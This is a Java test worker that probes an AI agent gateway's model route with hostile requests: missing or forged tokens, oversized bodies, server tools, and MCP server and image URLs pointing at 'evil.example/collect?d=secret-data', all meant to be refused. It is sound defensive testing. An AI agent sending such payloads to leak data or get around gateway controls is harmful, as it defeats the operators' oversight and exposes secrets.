package dev.worka.gateway.skill.model;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.worka.protocol.Json;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.TreeSet;

/**
 * A worker process that spends its step probing {@code POST /v1/agent/model/v1/messages} with plain
 * {@code java.net.http} (what a hostile or careless agent could send), records each answer's status
 * and body — and the names of the environment variables it was given — as the output of a failed,
 * not retryable result (a worker cannot write where the test could read). Depends on nothing but
 * the JDK, Jackson and worka-protocol.
 */
public final class ModelRouteProbe {
  static final String ROUTE = "/v1/agent/model/v1/messages";

  public static void main(String[] args) throws Exception {
    Map<String, String> env = System.getenv();
    String token =
        env.get("WORKA_TOKEN") != null
            ? env.get("WORKA_TOKEN")
            : Files.readString(Path.of(env.get("WORKA_TOKEN_FILE"))).trim();
    String base = env.get("WORKA_GATEWAY_URL");
    HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    ObjectNode report = Json.LENIENT.createObjectNode();
    report.set("env", Json.LENIENT.valueToTree(new TreeSet<>(env.keySet())));
    ObjectNode cases = report.putObject("cases");

    String good =
        "{\"model\":\"claude-the-worker-wants\",\"max_tokens\":999999,"
            + "\"messages\":[{\"role\":\"user\",\"content\":\"hello\"}]}";
    probe(http, base, cases, "no_token", null, good, Map.of());
    probe(http, base, cases, "forged_token", "not.a.jwt", good, Map.of());
    probe(http, base, cases, "invalid_json", token, "{\"model\": ", Map.of());
    probe(
        http,
        base,
        cases,
        "oversize",
        token,
        "{\"messages\":[{\"role\":\"user\",\"content\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}]}",
        Map.of());
    probe(
        http,
        base,
        cases,
        "stream",
        token,
        "{\"max_tokens\":10,\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}",
        Map.of());
    probe(
        http,
        base,
        cases,
        "server_tool",
        token,
        "{\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],"
            + "\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}",
        Map.of());
    probe(
        http,
        base,
        cases,
        "mcp_servers",
        token,
        "{\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],"
            + "\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://evil.example\",\"name\":\"x\"}]}",
        Map.of());
    // Content the provider would fetch, look up or run, at any depth: each is refused before it
    // leaves.
    String url = "{\"type\":\"url\",\"url\":\"https://evil.example/collect?d=secret-data\"}";
    String ask = "{\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":[%s]}]}";
    probe(
        http,
        base,
        cases,
        "image_url",
        token,
        ask.formatted("{\"type\":\"image\",\"source\":" + url + "}"),
        Map.of());
    probe(
        http,
        base,
        cases,
        "document_file",
        token,
        ask.formatted(
            "{\"type\":\"document\",\"source\":{\"type\":\"file\",\"file_id\":\"file_01\"}}"),
        Map.of());
    probe(
        http,
        base,
        cases,
        "tool_result_url",
        token,
        ask.formatted(
            "{\"type\":\"tool_result\",\"tool_use_id\":\"t\",\"content\":[{\"type\":\"document\","
                + "\"source\":{\"type\":\"content\",\"content\":[{\"type\":\"image\",\"source\":"
                + url
                + "}]}}]}"),
        Map.of());
    probe(
        http,
        base,
        cases,
        "container_upload",
        token,
        ask.formatted("{\"type\":\"container_upload\",\"file_id\":\"file_01\"}"),
        Map.of());
    probe(
        http,
        base,
        cases,
        "allowed",
        token,
        good,
        Map.of("anthropic-version", "2023-06-01", "anthropic-beta", "mcp-client-2025-04-04"));
    // The token as x-api-key (what the TypeScript and Python SDKs send), alone or with a different
    // bearer.
    probe(http, base, cases, "x_api_key", null, good, Map.of("x-api-key", token));
    probe(
        http,
        base,
        cases,
        "x_api_key_and_other_bearer",
        null,
        good,
        Map.of("x-api-key", token, "Authorization", "Bearer " + token + "x"));
    ObjectNode result = Json.LENIENT.createObjectNode();
    result.put("status", "failed").put("error", "probe done").put("retryable", false);
    result.set("output", report);
    http.send(
        HttpRequest.newBuilder(URI.create(base + "/v1/agent/result"))
            .header("Authorization", "Bearer " + token)
            .header("Content-Type", "application/json")
            .POST(HttpRequest.BodyPublishers.ofString(Json.write(result)))
            .build(),
        HttpResponse.BodyHandlers.discarding());
  }

  private static void probe(
      HttpClient http,
      String base,
      ObjectNode cases,
      String name,
      String token,
      String body,
      Map<String, String> headers)
      throws Exception {
    HttpRequest.Builder b =
        HttpRequest.newBuilder(URI.create(base + ROUTE))
            .timeout(Duration.ofSeconds(30))
            .header("Content-Type", "application/json")
            .POST(HttpRequest.BodyPublishers.ofString(body));
    if (token != null) {
      b.header("Authorization", "Bearer " + token);
    }
    headers.forEach(b::header);
    HttpResponse<String> r = http.send(b.build(), HttpResponse.BodyHandlers.ofString());
    ObjectNode c = cases.putObject(name);
    c.put("status", r.statusCode());
    try {
      c.set("body", Json.LENIENT.readTree(r.body()));
    } catch (Exception e) {
      c.put("body", r.body());
    }
  }
}
